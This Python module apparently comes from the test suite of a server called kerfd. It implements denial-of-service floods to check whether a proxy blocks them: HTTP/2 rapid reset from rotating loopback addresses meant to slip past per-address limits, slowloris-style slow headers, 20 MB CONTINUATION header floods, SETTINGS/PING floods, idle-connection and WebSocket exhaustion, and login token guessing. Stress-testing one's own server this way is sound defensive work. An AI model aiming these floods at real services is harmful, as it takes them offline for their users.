"""Lists the attacks that a proxy is to keep from kerfd. They reach kerfd's own ports as well, to compare."""

import json
import random
import resource
import select
import socket
import struct
import time

from clients import (CONTINUATION, END_HEADERS, END_STREAM, HEADERS, LINGER_NOT, PING, SETTINGS,
                     connect, drain, frame, header, open_http2, open_websocket)
from kinds import ATTACKS, Attack, reset_call

ENOUGH = 3000  # connections
SAY_EVERY_S = 0.5


def many_addresses(number):
    return f"127.0.{1 + number}.{random.randrange(1, 255)}"


def hold(target, open_one, wanted, say=None):
    """Holds connections, replaces those that the server closes, and says something on each now and then."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held = {}
    said = time.monotonic()
    poll = select.poll()
    while True:
        if len(held) < wanted:
            try:
                peer = open_one()
                held[peer.fileno()] = peer
                poll.register(peer, select.POLLIN)
                target.count("opened")
            except OSError:
                target.count("refused")
                time.sleep(0.002)
        for number, _ in poll.poll(0 if len(held) < wanted else 100):
            if not alive(held[number]):
                drop(target, poll, held, number)
        if say and time.monotonic() > said + SAY_EVERY_S:
            said = time.monotonic()
            for number in list(held):
                try:
                    held[number].sendall(say())
                except OSError:
                    drop(target, poll, held, number)


def alive(peer):
    try:
        return drain(peer)
    except OSError:
        return False


def drop(target, poll, held, number):
    poll.unregister(number)
    peer = held.pop(number)
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER_NOT)
    peer.close()
    target.count("closed by server")


def idle(target, number):
    """Says nothing: before TLS, after it, and after the first frame of HTTP/2."""
    ways = (lambda: connect(target.grpc[:2]), lambda: connect(target.grpc), lambda: open_http2(target.grpc),
            lambda: connect(target.http))
    hold(target, ways[number], ENOUGH // 4)


def slow_headers(target, number):
    """Sends a byte of a request each half second, over HTTP/1.1 and HTTP/2."""
    if number:
        block = frame(HEADERS, END_HEADERS | END_STREAM, 1, target.headers)
        starts = lambda: open_http2_with(target, block[:12])
    else:
        starts = lambda: connect(target.http)
    hold(target, starts, ENOUGH // 2, lambda: random.choice(b"GEThost:xyz").to_bytes(1, "big"))


def open_http2_with(target, words):
    peer = open_http2(target.grpc)
    peer.sendall(words)
    return peer


def header_pieces(target, number):
    """Sends 20 MB of headers a call: many small ones, or one of 16 kB again and again, in CONTINUATION frames."""
    block = (header(b"x-flood", b"x" * 60) * 200, header(b"x-flood", b"x" * 16000), b"")[number % 3]
    more = frame(CONTINUATION, 0, 1, block)
    with open_http2(target.grpc) as peer:
        target.count("connections")
        peer.sendall(frame(HEADERS, 0, 1, target.headers))
        sent = 0
        while sent < 20e6:
            peer.sendall(more)
            sent += len(more)
            target.count("bytes of headers", len(more))
            if not drain(peer):
                target.count("closed by server")
                return
        peer.sendall(frame(CONTINUATION, END_HEADERS, 1))
        target.count("20 MB taken")
        drain(peer)


def logins(target, number):
    """Sends wrong tokens, one connection after the other; half of them from ever other addresses."""
    source = many_addresses(number) if number % 2 else "127.0.0.2"
    with connect(target.http, source) as peer:
        body = json.dumps({"token": f"kerf_view_{random.getrandbits(200):043x}"[:53]}).encode()
        for _ in range(20):
            peer.sendall(b"POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                         b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
            answer = peer.recv(1 << 16)
            if not answer:
                target.count("closed by server")
                return
            target.count(f"status {answer[9:12].decode()}")


def control_frames(target, number):
    """Sends SETTINGS and PING frames, each of which wants an answer, and reads none, or all."""
    both = frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 4096)) + frame(PING, 0, 0, bytes(8))
    with open_http2(target.grpc) as peer:
        target.count("connections")
        peer.settimeout(5)
        while True:
            peer.sendall(both * 500)
            target.count("frames", 1000)
            if number % 2 and not drain(peer):
                target.count("closed by server")
                return


def idle_websockets(target, number):
    """Opens WebSockets with a token that may look, and says nothing: one a connection, or 64 over HTTP/2."""
    headers = f"Authorization: Bearer {target.token}\r\n"
    if number % 2:
        hold(target, lambda: open_websockets(target), ENOUGH // 60)
    else:
        hold(target, lambda: open_websocket(target.http, headers=headers), ENOUGH // 2)


def open_websockets(target):
    """Shakes hands for 64 WebSockets on one connection, RFC 8441."""
    fields = {b":method": b"CONNECT", b":protocol": b"websocket", b":scheme": b"https", b":path": b"/watch",
              b":authority": b"localhost", b"authorization": f"Bearer {target.token}".encode(), b"sec-websocket-version": b"13",
              b"sec-websocket-protocol": b"kerf.v1"}
    block = b"".join(header(name, value) for name, value in fields.items())
    peer = open_http2(target.grpc)
    peer.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 129, 2)))
    return peer


def resets_from_everywhere(target, number):
    """Resets calls from ever other addresses, a few at a time, so that no limit by address meets them."""
    with open_http2(target.grpc, many_addresses(number)) as peer:
        target.count("connections")
        peer.sendall(b"".join(reset_call(target, stream, number % 2) for stream in range(1, 801, 2)))
        target.count("resets", 400)
        peer.settimeout(0.2)
        try:
            while peer.recv(1 << 16):
                pass
        except TimeoutError:
            pass


FLOODS = {
    "rapid-reset": ATTACKS["rapid-reset"],
    "resets-from-everywhere": Attack(resets_from_everywhere, 8),
    "idle": Attack(idle, 4),
    "endless-header": ATTACKS["endless-header"],
    "header-pieces": Attack(header_pieces, 6),
    "wrong-headers": ATTACKS["wrong-headers"],
    "slow-headers": Attack(slow_headers, 2),
    "logins": Attack(logins, 4),
    "control-frames": Attack(control_frames, 4),
    "idle-websockets": Attack(idle_websockets, 2),
}
